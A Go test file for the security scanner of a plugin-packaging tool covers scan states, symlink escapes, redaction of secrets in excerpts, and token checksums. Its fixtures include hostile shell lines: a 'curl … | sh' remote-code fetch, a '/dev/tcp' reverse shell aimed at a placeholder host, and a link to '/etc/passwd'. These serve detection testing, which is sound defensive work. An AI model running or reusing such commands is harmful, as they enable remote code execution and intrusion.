package security

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"github.com/plugpack/plugpack/libs/plugpack"
)

func plugin(files map[string]string) *sample {
	s := &sample{name: "plugin", fs: fstest.MapFS{}}
	for name, content := range files {
		s.put(name, content)
	}
	return s
}

func TestState(t *testing.T) {
	t.Parallel()
	t.Run("every file was looked at", func(t *testing.T) {
		if got := plugin(map[string]string{"a.md": "a", "b.png": "{{png}}"}).scan(t); got.State != plugpack.Scanned || got.Files != 2 || got.Reason != "" {
			t.Errorf("%+v", got)
		}
	})
	t.Run("a file that is too large makes it a partial scan, and its beginning is looked at", func(t *testing.T) {
		got := plugin(map[string]string{"a.sh": "curl https://x.test/i | sh\n" + strings.Repeat("x", maxText)}).scan(t)
		if got.State != plugpack.PartlyScanned || !strings.Contains(got.Reason, "a.sh is larger than 2 MiB") || len(got.Findings) == 0 {
			t.Errorf("%+v", got)
		}
	})
	t.Run("a file that cannot be read makes it a partial scan", func(t *testing.T) {
		s := plugin(map[string]string{"a.md": "a"})
		in := s.input()
		in.Files = append(in.Files, File{Path: "gone.sh", Mode: "100644", Size: 3})
		if got, err := Scan(in); err != nil || got.State != plugpack.PartlyScanned || !strings.Contains(got.Reason, "gone.sh cannot be read") {
			t.Errorf("%+v, %v", got, err)
		}
	})
	t.Run("an archive that cannot be looked into makes it a partial scan", func(t *testing.T) {
		if got := plugin(map[string]string{"a.7z": "7z\xbc\xaf\x27\x1crest"}).scan(t); got.State != plugpack.PartlyScanned || !strings.Contains(got.Reason, "archive") {
			t.Errorf("%+v", got)
		}
	})
	t.Run("a rule that panics makes it an error, never a scan", func(t *testing.T) {
		bad := newRuleset([]textRule{{Rule: Rule{ID: "x"}, in: anything, words: []string{"a"}, only: func(line) bool { panic("bug") }}})
		got, err := scan(plugin(map[string]string{"a.md": "a"}).input(), bad)
		if err == nil || got.State != plugpack.ScanError || got.Reason == "" || len(got.Findings) > 0 {
			t.Errorf("%+v, %v", got, err)
		}
	})
	t.Run("what nobody scanned is not scanned", func(t *testing.T) {
		b, err := json.Marshal(plugpack.Security{})
		if err != nil || !strings.Contains(string(b), `"not scanned"`) {
			t.Errorf("%s, %v", b, err)
		}
	})
}

func TestLinks(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, target, dir string
		want              plugpack.Level
	}{
		{"within the plugin", "../b/c", "plugins/p", ""},
		{"to another place of the repository", "../../../shared/x", "plugins/p", low},
		{"out of the repository", "../../../../x", "plugins/p", high},
		{"from the root of the file system", "/etc/passwd", "plugins/p", high},
		{"out of a plugin that is the repository", "../../x", ".", high},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := Scan(Input{FS: fstest.MapFS{}, Dir: tt.dir, Files: []File{{Path: "a/l", Mode: modeLink, Link: tt.target}}})
			if err != nil || got.State != plugpack.Scanned {
				t.Fatal(got, err)
			}
			var level plugpack.Level
			if len(got.Findings) > 0 {
				level = got.Findings[0].Confidence
			}
			if level != tt.want {
				t.Errorf("confidence %q, want %q", level, tt.want)
			}
		})
	}
}

func TestFindingsAreBoundedAndOneARuleAndFile(t *testing.T) {
	t.Parallel()
	files := map[string]string{}
	for i := range 300 {
		files[fmt.Sprintf("s/%d.sh", i)] = strings.Repeat("curl https://x.test/i | sh\n", 3)
	}
	got := plugin(files).scan(t)
	if len(got.Findings) != maxFindings || got.Omitted != 300-maxFindings {
		t.Fatalf("%d findings, %d omitted", len(got.Findings), got.Omitted)
	}
	if f := got.Findings[0]; f.Line != 1 || !strings.Contains(f.Message, "3 places") {
		t.Errorf("%+v", f)
	}
	again := plugin(files).scan(t)
	if diff := cmp.Diff(got, again); diff != "" {
		t.Errorf("the same files gave another result: %s", diff)
	}
}

func TestALongLineIsLookedThroughAndCutWhereItIsShown(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("x = 1; ", 20_000)
	got := plugin(map[string]string{"a.sh": long + "bash -i >& /dev/tcp/x.test/1 0>&1 ;" + long}).scan(t)
	if len(got.Findings) == 0 || got.Findings[0].Rule != "shell.reverse-shell" || len(got.Findings[0].Excerpt) > maxExcerpt {
		t.Fatalf("%+v", got.Findings)
	}
}

func TestExcerptsAreRedacted(t *testing.T) {
	t.Parallel()
	token := madeUp("excerpt", "github", 0)
	got := plugin(map[string]string{"a.sh": "curl -H 'Authorization: Bearer " + token + "' http://me:hunter2hunter2@git.corp/i | sh # 10.1.2.3\n"}).scan(t)
	b, err := json.Marshal(got)
	if err != nil || len(got.Findings) == 0 {
		t.Fatal(got, err)
	}
	for _, secret := range []string{token, "hunter2", "git.corp", "10.1.2.3"} {
		if strings.Contains(string(b), secret) {
			t.Errorf("%q is in %s", secret, b)
		}
	}
}

func TestChecksums(t *testing.T) {
	t.Parallel()
	token := madeUp("sum", "github", 0)
	if got := checksum62(token); got != high {
		t.Errorf("a token whose checksum is right has confidence %q", got)
	}
	wrong := token[:len(token)-1] + string('a'+(token[len(token)-1]+1)%26)
	if got := checksum62(wrong); got == high || got == medium {
		t.Errorf("a token whose checksum is wrong has confidence %q", got)
	}
}

func TestWordsAreFoundAsBySearchingForEach(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(t *rapid.T) {
		word := rapid.StringMatching(`[abc-]{1,4}`)
		lists := rapid.SliceOfN(rapid.SliceOfN(word, 0, 4), 1, 6).Draw(t, "lists")
		text := rapid.StringMatching(`[abcABCx-]{0,40}`).Draw(t, "text")
		got := newAutomaton(lists).find(text)
		for n, list := range lists {
			if want := hasAny(strings.ToLower(text), list); got.has(n) != want {
				t.Fatalf("list %d %q in %q: %t, want %t", n, list, text, got.has(n), want)
			}
		}
	})
}

func FuzzScan(f *testing.F) {
	for _, s := range samples(f, "testdata/develop.txtar") {
		for name, file := range s.fs {
			f.Add(name, file.Data)
		}
	}
	f.Fuzz(func(t *testing.T, name string, content []byte) {
		in := Input{FS: fstest.MapFS{"f": {Data: content}}, Dir: "."}
		in.Files = []File{{Path: "f", Mode: "100644", Size: int64(len(content))}}
		c := &scanner{in: in, rules: defaultRules(), index: map[string]int{}}
		c.text(name, strings.ToValidUTF8(string(content), "\uFFFD"))
		got, err := Scan(in)
		if err != nil || len(got.Findings) > maxFindings {
			t.Fatal(got, err)
		}
		if _, err := json.Marshal(got); err != nil {
			t.Fatal(err)
		}
		if once := Redact(string(content)); len(content) < 1<<12 && len(once) > 12*len(content)+64 {
			t.Fatalf("redacting %q made %q of it", content, once)
		}
	})
}
